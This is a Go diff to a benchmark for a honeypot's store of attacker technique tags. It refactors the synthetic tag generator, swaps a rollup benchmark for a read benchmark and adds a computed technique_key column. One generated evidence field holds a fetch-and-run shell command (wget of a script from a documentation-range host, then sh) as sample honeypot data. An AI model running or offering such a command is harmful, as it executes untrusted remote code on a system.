@@ -8,6 +8,7 @@ import (
 	"fmt"
 	"math/rand/v2"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -22,6 +23,7 @@ import (
 //
 //	benchstat -filter '/impl:(facade OR handwritten)' -col /impl   the facade against the loop
 //	benchstat -filter '/impl:facade' -col /pass                    a replay against the first write
+//	benchstat -filter '/rollup:fleet' -col /window                 a window of 1 % against all tags
 //
 // The open function makes a pool on the URL's database as a caller would who writes the loop: with the
 // settings that ttp.Open uses and, unlike the pool of Engine.Empty, no recorder in between.
@@ -46,7 +48,7 @@ func Benchmark(b *testing.B, engine Engine, open func(tb testing.TB, url string)
 			}
 		}
 	})
-	b.Run("Rollup", func(b *testing.B) { benchmarkRollup(b, newDatabase(b, engine)) })
+	b.Run("Read", func(b *testing.B) { benchmarkReads(b, newDatabase(b, engine)) })
 }
 
 // writeTags writes tags and returns how many were new.
@@ -99,55 +101,33 @@ func emptyTags(b *testing.B, dialect ttp.Dialect, db *sql.DB) {
 	}
 }
 
-func benchmarkRollup(b *testing.B, db *database) {
-	const rows = 50_000
-	ctx := context.Background()
-	s := db.store(b)
-	for chunk := range slices.Chunk(benchmarkTags(rows), 10_000) {
-		insert(b, s, chunk...)
-	}
-	attackers := make([]ttp.Attacker, benchmarkAttackers)
-	for i := range attackers {
-		attackers[i] = ttp.Attacker{UUID: benchmarkAttacker(i), IdentityUUID: id(fmt.Sprint("identity ", i%100))}
-	}
-	succeed(b, s.UpsertAttackers(ctx, attackers))
-	for _, rollup := range []struct {
-		scope string
-		list  func() ([]ttp.TechniqueRollupRow, error)
-	}{
-		{"identity", func() ([]ttp.TechniqueRollupRow, error) { return s.ListTechniquesByIdentity(ctx, id("identity 0")) }},
-		{"fleet", func() ([]ttp.TechniqueRollupRow, error) { return s.ListDistinctTechniques(ctx) }},
-	} {
-		b.Run("scope="+rollup.scope, func(b *testing.B) {
-			var tags int64
-			for b.Loop() {
-				tags = 0
-				for _, row := range must[[]ttp.TechniqueRollupRow](b)(rollup.list()) {
-					tags += row.Count
-				}
-			}
-			if tags == 0 {
-				b.Fatal("there are no tags")
-			}
-			b.ReportMetric(float64(tags), "tags")
-		})
-	}
-}
-
-// benchmarkAttackers is how many attackers there are; few of them have most of the tags.
-const benchmarkAttackers = 2000
+const (
+	benchmarkAttackers = 2000 // few of them have most of the tags
+	benchmarkDays      = 30
+)
 
 func benchmarkAttacker(i int) uuid.UUID { return id(fmt.Sprint("attacker ", i)) }
 
-// benchmarkTags are tags such as a honeypot's, the same ones each time.
+// benchmarkTags are the first tags of newTagSource.
 func benchmarkTags(n int) []ttp.Tag {
-	random := rand.New(rand.NewPCG(1, 2))
-	skewed := rand.NewZipf(random, 1.2, 8, benchmarkAttackers-1)
+	next := newTagSource()
 	tags := make([]ttp.Tag, n)
 	for i := range tags {
+		tags[i] = next()
+	}
+	return tags
+}
+
+// newTagSource makes tags such as a honeypot's, the same ones each time.
+func newTagSource() func() ttp.Tag {
+	random := rand.New(rand.NewPCG(1, 2))
+	skewed := rand.NewZipf(random, 1.2, 8, benchmarkAttackers-1)
+	i := 0
+	return func() ttp.Tag {
+		i++
 		attacker := int(skewed.Uint64())
 		technique := random.IntN(60)
-		tags[i] = newTag(id(fmt.Sprint("event ", i)).String(), func(tag *ttp.Tag) {
+		return newTag(id(fmt.Sprint("event ", i)).String(), func(tag *ttp.Tag) {
 			tag.AttackerUUID = benchmarkAttacker(attacker)
 			tag.SessionID = fmt.Sprintf("session-%04d-%02d", attacker, random.IntN(10))
 			tag.DeckyID = fmt.Sprintf("decky-%02d", random.IntN(20))
@@ -161,17 +141,16 @@ func benchmarkTags(n int) []ttp.Tag {
 			tag.Evidence = json.RawMessage(fmt.Sprintf(
 				`{"command":"wget -q http://203.0.113.%d/%08x.sh -O .x && sh .x","matched":"wget","user":"root","pid":%d,"tty":true}`,
 				random.IntN(256), random.Uint32(), random.IntN(1<<15)))
-			tag.ObservedAt = at(random.IntN(30 * 24 * 3600 * 1e6))
+			tag.ObservedAt = at(random.IntN(benchmarkDays * 24 * 3600 * 1e6))
 		})
 	}
-	return tags
 }
 
 const (
 	insertColumns = `INSERT INTO ttp_tag (uuid, source_kind, source_id, attacker_uuid, identity_uuid, session_id, decky_id,` +
 		` tactic, technique_id, sub_technique_id, confidence, rule_id, rule_version,` +
-		` evidence, attack_release, observed_at, ingested_at, batch_uuid) VALUES `
-	insertTuple = `(?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`
+		` evidence, attack_release, observed_at, ingested_at, batch_uuid, technique_key) VALUES `
+	insertTuple = `(?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`
 	// insertRows is the number of rows in one statement on MySQL, as in the facade.
 	insertRows = 250
 )
@@ -259,7 +238,22 @@ func appendArgs(args []any, t *ttp.Tag) []any {
 	return append(args, t.UUID[:], t.SourceKind, t.SourceID, idOrNull(t.AttackerUUID), idOrNull(t.IdentityUUID),
 		textOrNull(t.SessionID), textOrNull(t.DeckyID), t.Tactic, t.TechniqueID, textOrNull(t.SubTechniqueID),
 		t.Confidence, t.RuleID, t.RuleVersion, string(t.Evidence), t.AttackRelease,
-		t.ObservedAt.UnixMicro(), t.IngestedAt.UnixMicro(), t.BatchUUID[:])
+		t.ObservedAt.UnixMicro(), t.IngestedAt.UnixMicro(), t.BatchUUID[:], techniqueKey(t))
+}
+
+// techniqueKey is the column of that name, of an enterprise tag.
+func techniqueKey(t *ttp.Tag) int64 {
+	sub := int64(0)
+	if t.SubTechniqueID != "" {
+		sub = 1 + digits(t.SubTechniqueID[6:])
+	}
+	major, minor, _ := strings.Cut(strings.TrimPrefix(t.AttackRelease, "enterprise-v"), ".")
+	return digits(t.TechniqueID[1:])*1e14 + sub*1e10 + digits(t.Tactic[2:])*1e6 + 1e5 + digits(major)*100 + digits(minor)
+}
+
+func digits(s string) int64 {
+	n, _ := strconv.ParseInt(s, 10, 64)
+	return n
 }
 
 func idOrNull(id uuid.UUID) any {
